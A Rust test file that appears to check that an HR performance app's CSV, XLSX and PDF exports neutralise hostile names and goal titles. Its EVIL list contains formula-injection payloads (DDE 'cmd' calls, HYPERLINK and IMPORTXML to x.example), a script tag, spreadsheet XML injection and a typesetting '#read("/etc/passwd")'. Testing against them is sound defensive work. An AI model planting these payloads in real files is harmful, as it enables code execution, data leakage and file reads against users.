//! What people called themselves and their goals leaves in files that other programs open: nothing of it runs there, in a
//! spreadsheet, in a workbook, or while a document is typeset, and all of it is there as it was written.

use std::io::{Cursor, Read};

use perftrack_tests::{
    Client, Org, Server, Stage,
    db::{self, run},
    pdf, samples,
};
use serde_json::json;
use shared::access::Role;
use zip::ZipArchive;

/// What spreadsheets, browsers and typesetters take for something to do. Some of it nobody can type any more, and may have come
/// in before that was so.
const EVIL: [&str; 20] = [
    "=HYPERLINK(\"https://x.example/?\"&A1,\"Open\")",
    "=cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+1+cmd|' /C calc'!A0",
    "-1+1",
    "=IMPORTXML(\"https://x.example\",\"//a\")",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    " =1+1",
    "'=1+1",
    "＝1+1",
    "a,b;c\"d\n=1+1",
    "\u{202e}1+1=\u{202c}",
    "<script>alert(1)</script>",
    "</t></si><c t=\"str\"><f>1+1</f></c>",
    "#read(\"/etc/passwd\")",
    "]] #panic(1) $x$ *b* @c",
    "#import \"@preview/a:0.1.0\": b",
    "_x003D_1+1 &amp; &#61;1+1",
];
/// Longer than any field takes.
const LONG: usize = 2000;
/// Of these a document has the letters, in this order.
const PRINTED: [&str; 6] = [EVIL[0], EVIL[2], EVIL[14], EVIL[16], EVIL[17], EVIL[18]];

/// An organisation where everything is called something evil, each by another name.
fn evil_org() -> Org {
    let org = Org::db_on(Server::alone(&[]));
    let period = Stage { org: &org, actor: org.admin().clone(), subject: org.admin().clone() }.period().id;
    let mut conn = org.server.database.admin();
    let long = ["=", &"1+".repeat(LONG / 2)].concat();
    for evil in EVIL.into_iter().chain([long.as_str()]) {
        let subject = org.db_person(Role::Employee, None);
        let id = subject.id;
        let stage = Stage { org: &org, actor: org.admin().clone(), subject };
        stage.made_by_subject(
            "/api/v1/objectives",
            &json!({
                "level": "person", "title": "Evil", "period_id": period, "visibility": "chain", "state": "active",
                "key_results": [{ "title": "Evil", "kind": "number", "direction": "increase", "start": 0.0, "target": 9.0 }],
            }),
        );
        stage.kpi("chain");
        let team = stage.team().id;
        run(
            &mut conn,
            &format!(
                "UPDATE teams SET name = $evil${evil}$evil$ WHERE id = '{team}';
                 UPDATE people SET name = $evil${evil}$evil$, job_title = $evil${evil}$evil$, team_id = '{team}' WHERE id = '{id}';
                 UPDATE key_results SET title = $evil${evil}$evil$ WHERE owner_id = '{id}';
                 UPDATE objectives SET title = $evil${evil}$evil$ WHERE owner_id = '{id}';
                 UPDATE kpis SET name = $evil${evil}$evil$ WHERE owner_id = '{id}'"
            ),
        );
    }
    org
}

fn file(by: &Client, path: &str) -> Vec<u8> {
    let response = by.raw("GET", path).send();
    assert_eq!(response.status, 200, "{path}: {}", response.text());
    let saved = response.header("content-disposition").is_some_and(|it| it.starts_with("attachment; filename="));
    assert!(saved && response.header("x-content-type-options") == Some("nosniff"), "{path} is no file to be saved");
    response.body
}

fn text(by: &Client, path: &str) -> String {
    String::from_utf8(file(by, path)).expect("UTF-8")
}

/// The cells of a file, as RFC 4180 has them.
fn cells(file: &str) -> Vec<String> {
    let (mut cells, mut cell, mut quoted) = (Vec::new(), String::new(), false);
    let mut letters = file.trim_start_matches('\u{feff}').chars().peekable();
    while let Some(letter) = letters.next() {
        match letter {
            '"' if quoted && letters.peek() == Some(&'"') => cell.extend(letters.next()),
            '"' => quoted = !quoted,
            ',' | '\r' | '\n' if !quoted => cells.push(std::mem::take(&mut cell)),
            letter => cell.push(letter),
        }
    }
    assert!(!quoted, "a quote is open at the end");
    cells
}

/// Whether a spreadsheet shows the cell and does nothing.
fn is_tame(cell: &str) -> bool {
    let is_number = cell.trim_end_matches('%').parse::<f64>().is_ok();
    let begins_a_formula = |letter: char| "=+-@＝＋－＠\t\r\n\0".contains(letter);
    is_number || !cell.trim_start_matches(' ').starts_with(begins_a_formula)
}

#[track_caller]
fn all_are_tame(path: &str, file: &str) -> Vec<String> {
    let cells = cells(file);
    let wild: Vec<_> = cells.iter().filter(|cell| !is_tame(cell)).collect();
    assert!(wild.is_empty(), "{path}: {wild:?}");
    cells
}

#[test]
fn in_a_csv_file_it_is_the_text_of_a_cell() {
    let org = evil_org();
    for (path, has_them) in [
        ("/api/v1/people/export", true),
        ("/api/v1/dashboards/goals.csv", true),
        ("/api/v1/dashboards/kpis.csv", true),
        ("/api/v1/dashboards/check-ins.csv", false),
        ("/api/v1/dashboards/feedback.csv", false),
        ("/api/v1/dashboards/reviews.csv", false),
        ("/api/v1/audit-log.csv", false),
    ] {
        let cells = all_are_tame(path, &text(org.admin(), path));
        for evil in EVIL.iter().filter(|_| has_them) {
            let disarmed = ["'", *evil].concat();
            assert!(cells.iter().any(|cell| cell == evil || *cell == disarmed), "{path}: {evil:?} isn't in {cells:?}");
        }
    }
}

/// The parts of a workbook that are XML, by name.
fn parts(workbook: Vec<u8>) -> Vec<(String, String)> {
    let mut archive = ZipArchive::new(Cursor::new(workbook)).expect("a workbook");
    (0..archive.len())
        .map(|index| {
            let mut part = archive.by_index(index).expect("a part");
            let (name, mut text) = (part.name().expect("a name").into_owned(), String::new());
            part.read_to_string(&mut text).expect("XML");
            (name, text)
        })
        .collect()
}

/// As a program that reads XML has it, and Excel's own way to write what XML can't.
fn read_back(xml: &str) -> String {
    let letters =
        [("&lt;", "<"), ("&gt;", ">"), ("&quot;", "\""), ("&apos;", "'"), ("_x000D_", "\r"), ("_x005F_", "_")];
    letters.iter().fold(xml.to_owned(), |text, (written, read)| text.replace(written, read)).replace("&amp;", "&")
}

#[test]
fn in_a_workbook_it_is_a_string_and_no_formula() {
    let org = evil_org();
    for (path, has_them) in [
        ("/api/v1/dashboards/goals.xlsx", true),
        ("/api/v1/dashboards/kpis.xlsx", true),
        ("/api/v1/dashboards/check-ins.xlsx", false),
        ("/api/v1/dashboards/feedback.xlsx", false),
        ("/api/v1/dashboards/reviews.xlsx", false),
    ] {
        let parts = parts(file(org.admin(), path));
        for (name, xml) in &parts {
            for inside in ["vba", "externalLink", "embedding", "activeX", "connections", "customUI"] {
                assert!(!name.contains(inside), "{path} holds {name}");
            }
            for tag in ["<f>", "<f ", "<hyperlink", "t=\"str\"><", "TargetMode=\"External\"", "<!DOCTYPE", "<!ENTITY"] {
                assert!(!xml.contains(tag), "{path}, {name}: {tag}");
            }
        }
        let strings = parts.iter().find(|(name, _)| name == "xl/sharedStrings.xml").expect("its strings");
        let read = read_back(&strings.1);
        for evil in EVIL.iter().filter(|_| has_them) {
            assert!(read.contains(*evil), "{path}: {evil:?} isn't in {read}");
        }
    }
}

fn closed_up(text: &str) -> String {
    text.split_whitespace().collect()
}

#[test]
fn in_a_document_it_is_printed_and_not_typeset() {
    let org = evil_org();
    for (path, has_them) in [
        ("/api/v1/dashboards/goals.pdf", true),
        ("/api/v1/dashboards/kpis.pdf", true),
        ("/api/v1/dashboards/check-ins.pdf", false),
        ("/api/v1/dashboards/reviews.pdf", false),
    ] {
        let file = file(org.admin(), path);
        // Lines may end anywhere in it.
        let text = closed_up(&pdf::text(&file));
        assert!(!text.contains("root:"), "{path}: {text}");
        for evil in PRINTED.iter().filter(|_| has_them) {
            assert!(text.contains(&closed_up(evil)), "{path}: {evil:?} isn't in {text}");
        }
        let raw = String::from_utf8_lossy(&file);
        for action in ["/JavaScript", "/Launch", "/URI", "/EmbeddedFile"] {
            assert!(!raw.contains(action), "{path} does something: {action}");
        }
    }
}

/// The files that need more to be there than goals and KPIs: as the sample of each has it, everybody and everything in it called
/// something evil.
#[test]
fn other_files_do_nothing_either() {
    let server = Server::alone(&[]);
    let declared = shared::every_operation();
    for name in [
        "ExportMeasurements",
        "ExportPulseResults",
        "ExportPulseResultsXlsx",
        "ExportReviewPacketPdf",
        "ExportImprovementPlanPdf",
    ] {
        let declared = declared.iter().find(|declared| declared.name == name).expect("an operation");
        for evil in ["=HYPERLINK(\"https://x.example\",\"Open\")", "#read(\"/etc/passwd\") <b> zq7"] {
            let org = Org::db_on(server);
            let stage = Stage::of_admin(&org, declared);
            let sample = samples::of(name, &stage);
            let mut conn = server.database.admin();
            let here = db::organisation_of(&mut conn, stage.subject.id);
            for (table, column) in
                [("people", "name"), ("review_papers", "subject_name"), ("kpis", "name"), ("pulse_questions", "text")]
            {
                let change = format!("UPDATE {table} SET {column} = $evil${evil}$evil$ WHERE org_id = '{here}'");
                run(&mut conn, &change);
            }
            let response = sample.request(declared, &stage).send();
            assert_eq!(response.status, 200, "{name}: {}", response.text());
            let kind = response.header("content-type").unwrap_or_default().to_owned();
            match kind.as_str() {
                "text/csv; charset=utf-8" => drop(all_are_tame(name, &response.text())),
                "application/pdf" => {
                    let text = closed_up(&pdf::text(&response.body));
                    assert!(text.contains(&closed_up(evil)), "{name}: {evil} isn't in {text}");
                }
                _ => {
                    let parts = parts(response.body);
                    let formulas: Vec<_> = parts.iter().filter(|(_, xml)| xml.contains("<f>")).collect();
                    assert!(formulas.is_empty(), "{name}: {formulas:?}");
                }
            }
        }
    }
}
